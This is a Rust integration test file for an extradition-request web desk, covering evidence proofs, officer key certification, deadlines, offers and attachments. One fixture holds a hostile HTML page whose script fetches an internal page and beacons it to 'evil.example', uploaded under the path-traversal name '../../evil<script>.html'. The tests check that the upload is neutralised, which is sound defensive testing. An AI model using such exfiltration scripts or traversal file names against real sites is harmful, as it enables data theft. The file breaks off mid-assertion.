    assert_eq!(w.board(x, w.us_asks, &jroe)[0].1, "owed by RU");
}

impl World {
    /// The log index of the last statement `action` signed by `actor`, as the desk's view
    /// holds it.
    fn logged(&self, action: &str, actor: &str) -> u64 {
        self.desk
            .view()
            .log
            .iter()
            .rev()
            .find(|l| l.action == action && l.actor.to_string() == actor)
            .unwrap_or_else(|| panic!("no {action} by {actor} in the view"))
            .index
    }

    /// A trust file pinning the hub's keys (no witness).
    fn trust(&self) -> rex_node::Trust {
        let state = self.hub.hub().state();
        let keys = state.keys();
        let text =
            rex_node::trust::hub_lines(keys.checkpoint.verifier(), keys.statement.verifying_key())
                .unwrap();
        rex_node::Trust::parse(&text).unwrap()
    }

    /// Every `href` of the links that `selector` finds.
    fn links(reply: &Reply, selector: &str) -> Vec<String> {
        let s = Selector::parse(selector).unwrap();
        reply
            .html()
            .select(&s)
            .filter_map(|e| e.value().attr("href").map(str::to_owned))
            .collect()
    }
}

#[test]
fn a_statement_s_evidence_is_verified_on_the_node_and_its_bundle_checks_without_the_hub() {
    let w = World::new();
    let case = w.officer("jroe", "case-officer");
    let answered = w.logged("request_answered", "RU");
    let filed = w.logged("request_filed", "US");

    // The case page's timeline links each statement about the request to its evidence.
    let page = w.get(&format!("/requests/{}", w.us_asks), &case);
    let timeline: Vec<Vec<String>> = page
        .cells("table.statements tbody tr")
        .into_iter()
        .map(|row| vec![row[0].clone(), row[2].clone(), row[3].clone()])
        .collect();
    assert_eq!(
        timeline,
        [
            [filed.to_string(), "US".into(), "request filed".into()],
            [answered.to_string(), "RU".into(), "request answered".into()]
        ]
    );
    assert_eq!(
        World::links(&page, "table.statements a"),
        [
            format!("/evidence/{filed}"),
            format!("/evidence/{answered}")
        ]
    );
    // So does the log page, newest first.
    let log = w.get("/log", &case);
    assert!(World::links(&log, "table.statements a").contains(&format!("/evidence/{answered}")));

    let evidence = w.get(&format!("/evidence/{answered}"), &case);
    assert_eq!(evidence.status, StatusCode::OK, "{}", evidence.body);
    assert_eq!(
        evidence.texts("h1"),
        [format!("Evidence of log entry {answered}")]
    );
    let inclusion = evidence.texts("p.inclusion").remove(0);
    assert!(
        inclusion.starts_with("Inclusion proof verified on this node")
            && inclusion
                .ends_with("which this node verified itself and which is final for this state."),
        "{inclusion}"
    );
    let signers = evidence.cells("table.signers tbody tr");
    assert_eq!(signers.len(), 1, "{signers:?}");
    assert_eq!(signers[0][..2], ["RU's node", "node key"]);
    assert_eq!(
        signers[0][5],
        "signature verified under the key registered for RU"
    );
    assert!(
        evidence
            .texts("dl.case dd")
            .iter()
            .any(|d| d.starts_with("no_officer: the node's key alone")),
        "{}",
        evidence.body
    );
    assert_eq!(
        World::links(&evidence, "a.download"),
        [format!("/evidence/{answered}/bundle")]
    );

    // The bundle: a file, which checks offline under the pinned keys.
    let bundle = w.get(&format!("/evidence/{answered}/bundle"), &case);
    assert_eq!(bundle.status, StatusCode::OK, "{}", bundle.body);
    assert_eq!(bundle.headers[header::CONTENT_TYPE], "application/json");
    let disposition = bundle.headers[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap();
    assert_eq!(
        disposition,
        format!("attachment; filename=\"rex-evidence-us-{answered}.json\"")
    );
    let verified = rex_node::verify_bundle(bundle.body.as_bytes(), &w.trust()).unwrap();
    assert_eq!(verified.index, answered);
    assert!(
        verified.describe().contains("is RU seq"),
        "{}",
        verified.describe()
    );
    let trail = w.get("/audit", &w.officer("ann", "auditor"));
    assert!(trail
        .texts("table.audit tr")
        .iter()
        .any(|r| r.contains("evidence exported") && r.contains(&format!("entry {answered}"))));

    // The admin sees evidence too (the log holds no case content), but not without a session.
    let admin = w.officer("root", "admin");
    assert_eq!(
        w.get(&format!("/evidence/{answered}"), &admin).status,
        StatusCode::OK
    );
    assert_eq!(
        w.get(&format!("/evidence/{answered}"), "").location(),
        "/login"
    );
    assert_eq!(
        w.get("/evidence/twelve", &case).status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        w.get(&format!("/evidence?index={filed}"), &case).location(),
        format!("/evidence/{filed}")
    );
}

#[test]
fn a_statement_not_yet_in_a_checkpoint_of_the_node_has_no_evidence_nor_bundle() {
    let mut w = World::new();
    let cookie = w.officer("jroe", "case-officer");
    let size = w.desk.view().report.unwrap().size;
    // Russia acts; the desk has not synced since.
    w.ru.submit(Action::FourEyesRequired).unwrap();
    for path in [
        format!("/evidence/{size}"),
        format!("/evidence/{size}/bundle"),
    ] {
        let refused = w.get(&path, &cookie);
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{path}");
        assert!(
            refused.body.contains(&format!(
                "entry {size} is not in a checkpoint this node holds yet (it holds {size} entries)"
            )),
            "{}",
            refused.body
        );
    }
    w.desk.sync_now().unwrap();
    assert_eq!(
        w.get(&format!("/evidence/{size}"), &cookie).status,
        StatusCode::OK
    );
}

#[test]
fn a_proof_from_a_lying_hub_shows_as_failed_and_gives_no_bundle() {
    let w = World::new();
    let cookie = w.officer("jroe", "case-officer");
    let answered = w.logged("request_answered", "RU");
    // The hub serves the entries as logged, but every hash behind its proofs is rewritten,
    // as an insider with the database would.
    let db = rusqlite::Connection::open(w.hub.database_path()).unwrap();
    db.busy_timeout(std::time::Duration::from_secs(10)).unwrap();
    db.execute("UPDATE hashes SET hash = randomblob(32)", [])
        .unwrap();
    drop(db);

    let evidence = w.get(&format!("/evidence/{answered}"), &cookie);
    assert_eq!(evidence.status, StatusCode::OK, "{}", evidence.body);
    let inclusion = evidence.texts("p.inclusion.bad");
    assert_eq!(inclusion.len(), 1, "{}", evidence.body);
    assert!(
        inclusion[0].starts_with(&format!(
            "Inclusion proof FAILED: the hub's inclusion proof of entry {answered} does not lead to the root of checkpoint"
        )),
        "{inclusion:?}"
    );
    assert!(!evidence.body.contains("Inclusion proof verified"));
    assert!(World::links(&evidence, "a.download").is_empty());
    let bundle = w.get(&format!("/evidence/{answered}/bundle"), &cookie);
    assert_eq!(bundle.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        bundle
            .body
            .contains(&format!("no bundle for entry {answered}")),
        "{}",
        bundle.body
    );
}

#[test]
fn the_admin_certifies_and_revokes_officer_keys_after_a_passkey_check() {
    let w = World::new();
    let (admin, mut key) = w.officer_with_key("root", "admin");
    let auditor = w.officer("ann", "auditor");
    w.officer("jroe", "case-officer,liaison");
    let form = |cookie: &str, body: &str| w.form("/officers/keys", cookie, body.to_owned());

    // Before a passkey check: the page asks for one, and a certification is refused.
    let page = w.get("/officers", &admin);
    assert!(page
        .body
        .contains("Confirm with your passkey to certify or revoke keys"));
    assert!(!page.body.contains("Create and certify the key"));
    let refused = form(&admin, "handle=jroe&days=30");
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    assert!(
        refused.body.contains("confirm with your passkey first"),
        "{}",
        refused.body
    );
    // The auditor sees the keys but changes nothing.
    let refused = form(&auditor, "handle=jroe");
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    assert!(
        refused
            .texts("main")
            .join(" ")
            .contains("certifying an officer's key is for the admin role"),
        "{}",
        refused.body
    );
    let seen = w.get("/officers", &auditor);
    assert!(
        !seen.body.contains("Confirm with your passkey")
            && !seen.body.contains("Create and certify")
    );

    assert_eq!(w.step_up(&admin, &mut key).status, StatusCode::OK);
    assert!(w
        .get("/officers", &admin)
        .body
        .contains("Create and certify the key"));
    for (bad, why) in [
        (
            "handle=jroe&days=0",
            "validity \"0\": a number of days from 1 to 732",
        ),
        ("handle=nobody", "no officer \"nobody\" on this desk"),
    ] {
        let refused = form(&admin, bad);
        assert!(
            refused.texts("main").join(" ").contains(why),
            "{bad}: {}",
            refused.body
        );
    }
    let done = form(&admin, "handle=jroe&days=30");
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    let certified = w.logged("officer_certified", "US");
    let rows = w.get("/officers", &auditor).cells("table.keys tbody tr");
    assert_eq!(rows.len(), 1, "{rows:?}");
    // The certified roles are named as the desk names the officer's roles.
    assert_eq!(
        rows[0][..2],
        ["jroe", "case officer, liaison officer"],
        "{rows:?}"
    );
    let enrolled = w
        .get("/officers", &auditor)
        .cells("table.officers tbody tr");
    assert!(
        enrolled
            .iter()
            .any(|r| r[0] == "jroe" && r[2] == "case officer, liaison officer"),
        "{enrolled:?}"
    );
    assert_eq!(
        rows[0][4..7],
        [
            "certified".to_owned(),
            format!("entry {certified}"),
            "—".to_owned()
        ],
        "{rows:?}"
    );
    let officer = w
        .desk
        .view()
        .registry
        .unwrap()
        .officer(&party("US"), &rex_domain::OfficerId::new("jroe").unwrap())
        .cloned()
        .unwrap();
    assert_eq!(officer.not_after - officer.not_before, 30 * 86_400);
    assert!(w
        .get(&format!("/evidence/{certified}"), &auditor)
        .body
        .contains("officer certified"));
    // An id is certified once.
    let again = form(&admin, "handle=jroe");
    assert_eq!(again.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        again.body.contains("has a certified key already"),
        "{}",
        again.body
    );

    // Revocation: not by the auditor; by the admin, within the passkey check's five minutes.
    assert_eq!(
        w.post("/officers/keys/jroe/revoke", &auditor, "same-origin")
            .status,
        StatusCode::FORBIDDEN
    );
    w.advance(rex_web::STEP_UP_TTL + 1);
    let late = w.post("/officers/keys/jroe/revoke", &admin, "same-origin");
    assert_eq!(late.status, StatusCode::FORBIDDEN, "{}", late.body);
    assert_eq!(w.step_up(&admin, &mut key).status, StatusCode::OK);
    let revoked = w.post("/officers/keys/jroe/revoke", &admin, "same-origin");
    assert_eq!(revoked.status, StatusCode::SEE_OTHER, "{}", revoked.body);
    let gone = w.logged("officer_revoked", "US");
    let rows = w.get("/officers", &admin).cells("table.keys tbody tr");
    assert!(rows[0][4].starts_with("revoked "), "{rows:?}");
    assert_eq!(rows[0][6], format!("entry {gone}"), "{rows:?}");
    assert_eq!(rows[0][7], "", "no action on a revoked key: {rows:?}");
    let trail = w.get("/audit", &auditor).texts("table.audit tr");
    assert!(trail
        .iter()
        .any(|r| r.contains("officer key certified") && r.contains("root")));
    assert!(trail.iter().any(|r| r.contains("officer key revoked")));
}

/// The case page shows the answer deadline that runs; a case officer of the custodian extends
/// it once, with a reason from the list, and the audit trail says who; when the hub's clock
/// passes it, the page shows the breach.
#[test]
fn the_case_page_shows_deadlines_and_a_case_officer_extends_the_answer() {
    let w = World::new();
    let case = w.officer("jroe", "case-officer");
    let auditor = w.officer("ann", "auditor");
    let page = format!("/requests/{}", w.ru_asks);
    let rows = w
        .get(&page, &auditor)
        .texts("section[aria-labelledby=deadlines] tbody tr");
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert!(
        rows[0].starts_with("answer by US") && rows[0].contains("running"),
        "{rows:?}"
    );
    // The desk lists the answer with its due date.
    let desk = w.get("/", &case).body;
    assert!(
        !desk.contains(&format!(
            "answer request {} from RU</a></td><td>no deadline",
            w.ru_asks
        )),
        "{desk}"
    );
    // Only a case officer sees the form and may extend.
    assert!(w
        .get(&page, &auditor)
        .texts("#extend-reason option")
        .is_empty());
    let extend = format!("/requests/{}/extend", w.ru_asks);
    assert_eq!(
        w.form(&extend, &auditor, "reason=force_majeure".into())
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        w.get(&page, &case).texts("#extend-reason option"),
        [
            "decision pending",
            "further information",
            "court proceedings",
            "force majeure"
        ]
    );
    w.form(&extend, &case, "reason=busy".into()).refused(
        StatusCode::UNPROCESSABLE_ENTITY,
        "expected one of decision_pending",
    );
    let done = w.form(&extend, &case, "reason=court_proceedings".into());
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    let shown = w.get(&page, &case);
    let rows = shown.texts("section[aria-labelledby=deadlines] tbody tr");
    assert!(
        rows[0].contains("extended from") && rows[0].contains("(court proceedings)"),
        "{rows:?}"
    );
    assert!(shown.texts("#extend-reason option").is_empty(), "once only");
    let trail = w.get("/audit", &auditor).texts("table.audit tr");
    assert!(
        trail.iter().any(|r| r.contains("jroeanswer extended")),
        "{trail:?}"
    );

    // 90 days on the hub's clock: it records the breach by itself; the page shows it.
    w.hub.clock().advance(90 * 86_400 + 1);
    let state = w.hub.hub();
    w.hub.block_on(
        state.wait_for_registry("the missed answer", |r| r.breaches().first().map(|_| ())),
    );
    w.desk.sync_now().unwrap();
    let rows = w
        .get(&page, &auditor)
        .texts("section[aria-labelledby=deadlines] tbody tr");
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert!(
        rows[0].contains("breach by US") && rows[0].contains("missed; not cured"),
        "{rows:?}"
    );
    // The ledger page counts it against the US; nothing was handed over yet.
    let ledger = w.get("/ledger", &auditor);
    assert_eq!(
        ledger.texts("table.ledger tbody tr"),
        ["RU0 (0 surrendered, 0 prosecuted at home)0 (0 surrendered, 0 prosecuted at home)0US: 1, RU: 0"]
    );
}

/// Under an agreement with credit, the custodian's case officer drafts an unconditional offer,
/// an approver approves it, and it can be withdrawn; without credit there is nothing to offer.
#[test]
fn an_unconditional_offer_is_drafted_approved_and_withdrawn_on_the_case_page() {
    let w = World::new();
    let case = w.officer("jroe", "case-officer");
    let (approver, mut key) = w.officer_with_key("appr", "approver");
    let auditor = w.officer("ann", "auditor");
    // The standard agreement allows no credit: no offer section, and a post is refused.
    let strict = format!("/requests/{}", w.ru_asks);
    assert!(w
        .get(&strict, &case)
        .texts("section[aria-labelledby=offer]")
        .is_empty());
    let terms = rex_domain::AgreementTerms::new(rex_domain::TermsDraft {
        credit: Some(rex_domain::CreditTerms {
            max_outstanding: 1,
            max_chain: 3,
        }),
        ..(*terms(&["RU", "US"])).clone()
    })
    .unwrap();
    let mut ru = rex_node::open_with_clock(&w._tmp.path().join("RU"), node_clock).unwrap();
    let s = ru.submit(Action::AgreementProposed { terms }).unwrap();
    let agreement = AgreementId::from_digest(&s.digest);
    w.desk.act(Action::AgreementSigned { agreement }).unwrap();
    let (request, _) = ru
        .file_request(draft("RU", "US", agreement), b"RU dossier: a botnet herder")
        .unwrap();
    w.desk
        .act(Action::RequestAnswered {
            request,
            answer: Answer::Surrender,
        })
        .unwrap();
    w.desk.sync_now().unwrap();
    let page = format!("/requests/{request}");
    let offer = format!("/requests/{request}/offer");
    let shown = w.get(&page, &case);
    let words = shown.texts("section[aria-labelledby=offer] p");
    assert!(
        words[0].starts_with("not offered. US's committed balance under the agreement is +0 with 0 open offers; the credit limit is 1"),
        "{words:?}"
    );
    // Only a case officer drafts it; the auditor sees the section without the form.
    assert!(w
        .get(&page, &auditor)
        .texts(&format!("form[action=\"{offer}\"]"))
        .is_empty());
    assert_eq!(
        w.post(&offer, &auditor, "same-origin").status,
        StatusCode::FORBIDDEN
    );
    w.post(
        &format!("/requests/{}/offer", w.ru_asks),
        &case,
        "same-origin",
    )
    .refused(StatusCode::UNPROCESSABLE_ENTITY, "allows no credit");
    let drafted = w.post(&offer, &case, "same-origin");
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    let draft = drafted.location().to_owned();
    // Nothing is signed before the approval.
    assert_eq!(
        w.desk
            .view()
            .registry
            .as_ref()
            .unwrap()
            .request(&request)
            .unwrap()
            .offered,
        None
    );
    let shown = w.get(&draft, &approver);
    assert!(
        shown.body.contains("offers the subject of request")
            && shown.body.contains("credit limit 1"),
        "{}",
        shown.body
    );
    assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
    w.post(&format!("{draft}/approve"), &approver, "same-origin");
    assert_eq!(w.get(&draft, &approver).texts("dd.state"), vec!["approved"]);
    let view = w.desk.view();
    let r = view.registry.as_ref().unwrap().request(&request).unwrap();
    assert!(r.open_offer());
    drop(view);
    let words = w
        .get(&page, &case)
        .texts("section[aria-labelledby=offer] p");
    assert!(
        words[0].starts_with("offered unconditionally on")
            && words[0].contains("with 1 open offer;"),
        "{words:?}"
    );
    // A second draft is refused at once; the offer is withdrawn without four eyes.
    w.post(&offer, &case, "same-origin").refused(
        StatusCode::UNPROCESSABLE_ENTITY,
        "only its custodian offers it, once",
    );
    let withdrawn = w.post(
        &format!("/requests/{request}/withdraw-offer"),
        &case,
        "same-origin",
    );
    assert_eq!(
        withdrawn.status,
        StatusCode::SEE_OTHER,
        "{}",
        withdrawn.body
    );
    let view = w.desk.view();
    assert_eq!(
        view.registry
            .as_ref()
            .unwrap()
            .request(&request)
            .unwrap()
            .offered,
        None
    );
    drop(view);
    let trail = w.get("/audit", &auditor).texts("table.audit tr");
    assert!(
        trail.iter().any(|r| r.contains("jroeoffer withdrawn")),
        "{trail:?}"
    );
    // The ledger page says the credit terms and where the US stands.
    let credit = w.get("/ledger", &auditor).texts("p.credit");
    assert_eq!(
        credit,
        ["Credit: deferred reciprocity up to 1 handover owed either way; committed balance of US (exchanges not lapsed, chains included): 0; 0 open unconditional offers."]
    );
}

/// Two requests name one person: the desk's sync tags both, the case page offers the decision
/// between them, and the approved draft prefers one and refuses the other.
#[test]
fn competing_requests_are_decided_on_the_case_page_with_four_eyes() {
    let mut w = World::new();
    let agreement = w.agreement();
    let dossier = |text: &str| {
        serde_json::json!({
            "format": rex_domain::DOSSIER_FORMAT,
            "facts": {"born": "1990-02-03", "identity": {"family_name": "Ivanov", "given_names": "Pyotr"}},
            "text": text
        })
        .to_string()
    };
    let mut requests = Vec::new();
    for (text, severity) in [
        ("RU: fraud, 2023", Severity::Serious),
        ("RU: extortion, 2024", Severity::Grave),
    ] {
        let mut d = draft("RU", "US", agreement);
        d.severity = severity;
        let (r, _) = w.ru.file_request(d, dossier(text).as_bytes()).unwrap();
        requests.push(r);
    }
    w.desk.sync_now().unwrap();
    requests.sort();
    let case = w.officer("jroe", "case-officer");
    let (approver, mut key) = w.officer_with_key("appr", "approver");
    let auditor = w.officer("ann", "auditor");
    // Both await the decision on the desk's list of what awaits the state.
    let desk = w.get("/", &case).body;
    for r in &requests {
        assert!(
            desk.contains(&format!("decide competing request on request {r}")),
            "{desk}"
        );
    }
    let page = format!("/requests/{}", requests[0]);
    let shown = w.get(&page, &case);
    let choices = shown.texts("form[action$=\"/compete\"] fieldset:first-of-type label");
    assert_eq!(choices.len(), 2, "{}", shown.body);
    for r in &requests {
        assert!(
            choices.iter().any(|c| c.contains(&r.to_string())),
            "{choices:?}"
        );
    }
    // The generic decision form does not offer the competition; an auditor sees no form.
    assert!(!shown
        .texts("#decide-check option")
        .contains(&"competing request".to_owned()));
    assert!(w
        .get(&page, &auditor)
        .texts("form[action$=\"/compete\"]")
        .is_empty());
    let compete = format!("/requests/{}/compete", requests[0]);
    let body = |preferred: &RequestId, factors: &str, grounds: &str| {
        format!("preferred={preferred}&others=refuse{factors}&grounds={grounds}")
    };
    w.form(&compete, &case, body(&requests[1], "", "graver"))
        .refused(StatusCode::UNPROCESSABLE_ENTITY, "no factor weighed");
    w.form(
        &compete,
        &case,
        body(&w.us_asks, "&factor=seriousness", "graver"),
    )
    .refused(
        StatusCode::UNPROCESSABLE_ENTITY,
        "is not among those competing",
    );
    w.form(
        &compete,
        &case,
        body(&requests[1], "&factor=bribes", "graver"),
    )
    .refused(StatusCode::UNPROCESSABLE_ENTITY, "is not a factor");
    assert_eq!(
        w.form(
            &compete,
            &auditor,
            body(&requests[1], "&factor=seriousness", "x")
        )
        .status,
        StatusCode::FORBIDDEN
    );
    let drafted = w.form(
        &compete,
        &case,
        body(
            &requests[1],
            "&factor=seriousness&factor=dates",
            "the+extortion+is+graver",
        ),
    );
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    let draft = drafted.location().to_owned();
    let shown = w.get(&draft, &approver);
    assert!(
        shown
            .body
            .contains(&format!("prefers request {}", requests[1]))
            && shown.body.contains(&format!("refuses {}", requests[0]))
            && shown.body.contains("factors: seriousness, dates"),
        "{}",
        shown.body
    );
    assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
    w.post(&format!("{draft}/approve"), &approver, "same-origin");
    assert_eq!(w.get(&draft, &approver).texts("dd.state"), vec!["approved"]);
    let view = w.desk.view();
    let reg = view.registry.as_ref().unwrap();
    assert_eq!(
        reg.request(&requests[0]).unwrap().status,
        rex_domain::RequestStatus::Refused(rex_domain::RefusalGround::CompetingRequest)
    );
    assert!(reg
        .request(&requests[1])
        .unwrap()
        .blocking_check()
        .is_none());
    drop(view);
    // Decided: the form is gone, and the grounds stay on the node under their digest.
    assert!(w
        .get(&format!("/requests/{}", requests[1]), &case)
        .texts("form[action$=\"/compete\"]")
        .is_empty());
    let sha = rex_domain::Digest::of(b"the extortion is graver");
    assert!(w.desk.dir().join("grounds").join(sha.to_string()).exists());
}

/// The profile page lists each state's profile in force; a case officer publishes a new
/// version (an auditor may not), and a malformed one is refused in one line.
#[test]
fn the_profile_page_shows_the_law_in_force_and_a_case_officer_publishes_a_version() {
    let w = World::new();
    let case = w.officer("jroe", "case-officer");
    let auditor = w.officer("ann", "auditor");
    let page = w.get("/profile", &auditor);
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let rows = page.texts("table.profiles tbody tr");
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert!(rows[0].starts_with("USnone"), "this state first: {rows:?}");
    assert!(
        page.texts("#profile-json").is_empty(),
        "an auditor publishes nothing"
    );
    let profile = serde_json::json!({
        "surrenders_nationals": false, "min_penalty_months": 12, "min_sentence_months": 4,
        "statutes": [{"category": "illegal_access", "reference": "18 U.S.C. 1030"}],
        "limitations": [], "min_age": 18, "death_penalty": true,
        "assurances_required": [], "exclusions": []
    })
    .to_string();
    let body = |json: &str| {
        format!(
            "profile={}",
            form_urlencoded::byte_serialize(json.as_bytes()).collect::<String>()
        )
    };
    assert_eq!(
        w.form("/profile", &auditor, body(&profile)).status,
        StatusCode::FORBIDDEN
    );
    w.form("/profile", &case, body("{\"surrenders_nationals\": 1}"))
        .refused(StatusCode::UNPROCESSABLE_ENTITY, "the profile is not valid");
    let done = w.form("/profile", &case, body(&profile));
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    let page = w.get("/profile", &case);
    let rows = page.texts("table.profiles tbody tr");
    assert!(
        rows[0].starts_with("USv1") && rows[0].contains("death penalty yes"),
        "{rows:?}"
    );
    assert!(page.texts("#profile-json")[0].contains("18 U.S.C. 1030"));
    let trail = w.get("/audit", &auditor).texts("table.audit tr");
    assert!(
        trail.iter().any(|r| r.contains("jroeprofile published")),
        "{trail:?}"
    );
}

// ----- attachments -----

/// A `multipart/form-data` body, as a browser posts the new-request form: text fields, then
/// files (field name, file name, bytes); its content type with the boundary.
fn multipart(fields: &[(&str, &str)], files: &[(&str, &str, &[u8])]) -> (String, Vec<u8>) {
    let boundary = "----rexFormBoundary7MA4YWxkTrZu0gW";
    let mut body = Vec::new();
    for (name, value) in fields {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                .as_bytes(),
        );
    }
    for (name, file, bytes) in files {
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{file}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
            )
            .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

impl World {
    /// The new-request form posted with files, from `site` (`same-origin` for the desk).
    fn upload(&self, cookie: &str, site: &str, files: &[(&str, &str, &[u8])]) -> Reply {
        let form = self.get("/requests/new", cookie);
        let agreement = form.texts("#agreement option")[0].clone();
        let (content_type, body) = multipart(
            &[
                ("custodian", "RU"),
                ("agreement", &agreement),
                ("offence", "illegal_access"),
                ("offence", "data_interference"),
                ("max_penalty_months", "96"),
                ("severity", "serious"),
                (
                    "dossier",
                    "Subject: a botnet operator; the warrant and the logs are attached.",
                ),
            ],
            files,
        );
        self.send(
            Request::post("/requests/new")
                .header(header::COOKIE, cookie)
                .header(header::CONTENT_TYPE, content_type)
                .header("sec-fetch-site", site)
                .body(Body::from(body))
                .unwrap(),
        )
    }

    /// The agreement the US and Russia's requests invoke.
    fn agreement(&self) -> AgreementId {
        let view = self.desk.view();
        let registry = view.registry.as_ref().unwrap();
        registry.request(&self.ru_asks).unwrap().metadata.agreement
    }

    /// Swaps the desk under test for Russia's (its node's data directory, the same hub and
    /// clock): the custodian's desk.
    fn become_russia(&mut self) {
        let ru = rex_node::open_with_clock(&self._tmp.path().join("RU"), node_clock).unwrap();
        let clock = {
            let now = Arc::clone(&self.now);
            Arc::new(move || now.load(Ordering::SeqCst))
        };
        let desk = Desk::with_node(
            ru,
            Config {
                public_url: ORIGIN.into(),
                clock,
            },
        )
        .unwrap();
        desk.sync_now().unwrap();
        self.router = rex_web::router(Arc::clone(&desk));
        self.desk = desk;
    }

    /// The audit trail's rows, as an auditor reads them.
    fn trail(&self, auditor: &str) -> Vec<String> {
        self.get("/audit", auditor).texts("table.audit tr")
    }
}

const WARRANT: &[u8] =
    b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\nArrest warrant no. 21-0607\n%%EOF\n";
/// A hostile requester's evidence: a page with a script, under a name that climbs the tree.
const HOSTILE: &[u8] = b"<html><body><script>fetch('/officers').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>";

#[test]
fn attachments_on_the_form_are_approved_filed_and_downloaded_by_the_custodian_byte_for_byte() {
    let mut w = World::new();
    let drafter = w.officer("jroe", "case-officer");
    let (approver, mut key) = w.officer_with_key("appr", "approver");

    // The form as a browser posts it: two files, and the file inputs left empty.
    let drafted = w.upload(
        &drafter,
        "same-origin",
        &[
            ("attach_warrant", "warrant 21-0607.pdf", WARRANT),
            ("attach_judgment", "", b""),
            ("attach_evidence", "../../evil<script>.html", HOSTILE),
        ],
    );
    assert_eq!(drafted.status, StatusCode::SEE_OTHER, "{}", drafted.body);
    let page = drafted.location().to_owned();

    // The approver sees what will be signed: each attachment's kind, name, size and SHA-256.
    let shown = w.get(&page, &approver);
    let digest = |b: &[u8]| rex_domain::Digest::of(b).to_string();
    let rows = shown.cells("table.attachments tbody tr");
    assert_eq!(
        rows,
        vec![
            vec![
                "1".into(),
                "warrant".into(),
                "warrant 21-0607.pdf".into(),
                "application/pdf".into(),
                WARRANT.len().to_string(),
                digest(WARRANT)
            ],
            vec![
                "2".into(),
                "evidence".into(),
                "evil_script_.html".into(),
                "text/html".into(),
                HOSTILE.len().to_string(),
                digest(HOSTILE)
            ],
        ]
    );
    let summary = shown.texts("dd.summary").remove(0);
    assert!(
        summary.contains(&format!(
            "with 2 attachments (warrant, evidence; {} bytes)",
            WARRANT.len() + HOSTILE.len()
        )),
        "{summary}"
    );
    // The inputs show the bytes as their size, not as base64 to scroll through.
    let inputs = shown.texts("details pre").remove(0);
    assert!(
        inputs.contains("bytes in base64; attachment listed"),
        "{inputs}"
    );
    assert!(!inputs.contains("JVBERi0xLjc"), "{inputs}");
    // An admin reads no attachment of a draft (nor of a filed dossier: below).
    w.get(
        &format!("{page}/attachments/1"),
        &w.officer("boss", "admin"),
    )
    .refused(StatusCode::FORBIDDEN, "the approvals");
    // The approver reads the warrant before approving.
    let read = w.get(&format!("{page}/attachments/1"), &approver);
    assert_eq!(
        (read.status, read.bytes.as_slice()),
        (StatusCode::OK, WARRANT)
    );

    assert_eq!(w.step_up(&approver, &mut key).status, StatusCode::OK);
    let approved = w.post(&format!("{page}/approve"), &approver, "same-origin");
    assert_eq!(approved.status, StatusCode::SEE_OTHER);
    let outcome = w.get(&page, &approver).texts("dd.outcome").remove(0);
    assert!(outcome.starts_with("request req_"), "{outcome}");
    let request = outcome
        .trim_start_matches("request ")
        .split(' ')
        .next()
        .unwrap()
        .to_owned();

    // Russia's desk, the custodian's: its officers list the attachments and download them.
    w.become_russia();
    let case = w.officer("ivan", "case-officer");
    let auditor = w.officer("olga", "auditor");
    let admin = w.officer("root", "admin");
    let dossier = w.get(&format!("/requests/{request}/dossier"), &case);
    assert_eq!(dossier.status, StatusCode::OK, "{}", dossier.body);
    assert_eq!(dossier.cells("table.attachments tbody tr"), rows);
    let links: Vec<String> = dossier
        .html()
        .select(&Selector::parse("table.attachments a").unwrap())
        .map(|a| a.value().attr("href").unwrap().to_owned())
        .collect();
    assert_eq!(
        links,
        vec![
            format!("/requests/{request}/attachments/1"),
            format!("/requests/{request}/attachments/2")
        ]
    );
    let warrant = w.get(&links[0], &case);
    assert_eq!(
        (warrant.status, warrant.bytes.as_slice()),
        (StatusCode::OK, WARRANT)
    );
    let header = |r: &Reply, h: &str| r.headers.get(h).map(|v| v.to_str().unwrap().to_owned());
    assert_eq!(
        header(&warrant, "content-type").as_deref(),
        Some("application/pdf")
    );
    assert_eq!(
        header(&warrant, "content-disposition").as_deref(),
        Some(
            "attachment; filename=\"warrant 21-0607.pdf\"; filename*=UTF-8''warrant%2021-0607.pdf"
        )
    );
    // The hostile page is a file to save, never a page of the desk's origin.
    let hostile = w.get(&links[1], &auditor);
    assert_eq!(
        (hostile.status, hostile.bytes.as_slice()),
        (StatusCode::OK, HOSTILE)
    );
    for (h, want) in [
        ("content-type", "application/octet-stream"),
        (
            "content-disposition",
            "attachment; filename=\"evil_script_.html\"; filename*=UTF-8''evil_script_.html",
        ),
        ("x-content-type-options", "nosniff"),
        (
            "content-security-policy",
            "default-src 'none'; sandbox; frame-ancestors 'none'",
        ),
        ("cache-control", "no-store"),
    ] {
        assert_eq!(header(&hostile, h).as_deref(), Some(want), "{h}");
    }
    // The admin sees no dossier plaintext: neither the dossier nor an attachment.
    for path in [format!("/requests/{request}/dossier"), links[0].clone()] {
        w.get(&path, &admin)
            .refused(StatusCode::FORBIDDEN, "reading a dossier");
    }
    assert_eq!(
        w.get(&format!("/requests/{request}/attachments/3"), &case)
